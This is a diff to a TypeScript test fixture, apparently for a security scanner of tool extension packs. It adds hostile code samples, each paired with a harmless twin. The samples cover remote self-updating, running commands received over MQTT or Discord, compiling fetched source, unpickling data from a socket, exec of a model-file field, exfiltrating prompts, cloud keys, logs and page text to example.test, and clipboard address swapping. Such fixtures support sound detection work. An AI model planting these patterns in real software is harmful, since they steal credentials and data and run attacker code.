@@ -195,3 +195,70 @@ export const everydayAttacks: Attack[] = [
     `${app}const f = document.createElement("iframe"); f.src = "/extensions/x/c.html"; document.body.append(f); f.onload = async () => f.contentWindow.postMessage(await app.graphToPrompt(), "*")`,
   ),
 ]
+
+/** Attacks by packs that look after themselves, talk, or stand between the tool and its parts. */
+export const standingAttacks: Attack[] = [
+  {
+    name: 'renews its own files from a list',
+    files: {
+      '__init__.py': 'from .update import Updater\nUpdater().check()\n',
+      'update.py':
+        'import json, os\nfrom urllib import request\nclass Updater:\n    base = "https://example.test/v2"\n    def __init__(self):\n        self.root = os.path.abspath(os.path.dirname(__file__))\n    def check(self):\n        with request.urlopen(self.base + "/list.json") as r:\n            entries = json.load(r)["files"]\n        for entry in entries:\n            with open(os.path.join(self.root, entry["path"]), "wb") as f:\n                f.write(request.urlopen(self.base + "/" + entry["path"]).read())\n',
+    },
+    twin: {
+      '__init__.py': 'from .update import Updater\nUpdater().check()\n',
+      'update.py':
+        'import json, os\nfrom urllib import request\nclass Updater:\n    base = "https://example.test/v2"\n    def __init__(self):\n        self.root = os.path.abspath(os.path.dirname(__file__))\n    def check(self):\n        with request.urlopen(self.base + "/list.json") as r:\n            entries = json.load(r)["presets"]\n        with open(os.path.join(self.root, "presets.json"), "w") as f:\n            json.dump(entries, f)\n',
+    },
+  },
+  python(
+    'runs the messages of a broker',
+    'import paho.mqtt.client as mqtt, os\nc = mqtt.Client()\nc.on_message = lambda client, data, message: os.system(message.payload.decode())\nc.connect("broker.example.test")',
+    'import paho.mqtt.client as mqtt\nc = mqtt.Client()\nc.on_message = lambda client, data, message: print(message.payload.decode())\nc.connect("broker.example.test")',
+  ),
+  python(
+    'runs the messages of a chat',
+    'import discord, subprocess\nbot = discord.Client()\n@bot.event\nasync def on_message(message):\n    await message.channel.send(subprocess.getoutput(message.content))\nbot.run("token")',
+    'import discord\nbot = discord.Client()\n@bot.event\nasync def on_message(message):\n    print(message.content)\nbot.run("token")',
+  ),
+  python(
+    'compiles a source that it fetches',
+    'import requests, torch.utils.cpp_extension as e\nopen("/tmp/k.cpp", "w").write(requests.get("https://example.test/k").text)\ne.load(name="k", sources=["/tmp/k.cpp"])',
+    'import torch.utils.cpp_extension as e\ne.load(name="k", sources=["kernel.cpp"])',
+  ),
+  python(
+    'builds objects from a connection',
+    'import pickle, socket\ns = socket.create_connection(("example.test", 1))\npickle.Unpickler(s.makefile("rb")).load()',
+    'import json, socket\ns = socket.create_connection(("example.test", 1))\njson.load(s.makefile("rb"))',
+  ),
+  python(
+    'runs a field of a model file',
+    'import gguf\nreader = gguf.GGUFReader("m.gguf")\nexec(bytes(reader.fields["script"].parts[-1]).decode())',
+    'import gguf\nreader = gguf.GGUFReader("m.gguf")\nprint(bytes(reader.fields["script"].parts[-1]).decode())',
+  ),
+  python(
+    'stands between the tool and its executor',
+    'import execution, requests\nold = execution.PromptExecutor.execute\ndef execute(self, prompt, *a, **k):\n    requests.post("https://example.test/p", json=prompt)\n    return old(self, prompt, *a, **k)\nexecution.PromptExecutor.execute = execute',
+    'import execution\nold = execution.PromptExecutor.execute\ndef execute(self, prompt, *a, **k):\n    print(len(prompt))\n    return old(self, prompt, *a, **k)\nexecution.PromptExecutor.execute = execute',
+  ),
+  python(
+    'takes the keys of a cloud from its client',
+    'import boto3, requests\nkeys = boto3.Session().get_credentials().get_frozen_credentials()\nrequests.post("https://example.test", json={"k": keys.secret_key})',
+    'import boto3\nboto3.client("s3").list_buckets()',
+  ),
+  python(
+    'sends the log of the tool away',
+    'import os, requests, folder_paths\nrequests.post("https://example.test/l", data=open(os.path.join(folder_paths.base_path, "user", "comfyui.log")).read())',
+    'import os, folder_paths\nprint(os.path.getsize(os.path.join(folder_paths.base_path, "user", "comfyui.log")))',
+  ),
+  script(
+    'puts an address for payments into the clipboard',
+    'document.addEventListener("copy", (e) => { e.clipboardData.setData("text/plain", "0x1111111111111111111111111111111111111111"); e.preventDefault() })',
+    'document.addEventListener("copy", (e) => { e.clipboardData.setData("text/plain", selected()); e.preventDefault() })',
+  ),
+  script(
+    'sends the text of the page away',
+    'setInterval(() => fetch("https://example.test/t", { method: "POST", body: document.body.innerText }), 60000)',
+    'setInterval(() => fetch("/mypack/t", { method: "POST", body: document.body.innerText }), 60000)',
+  ),
+]
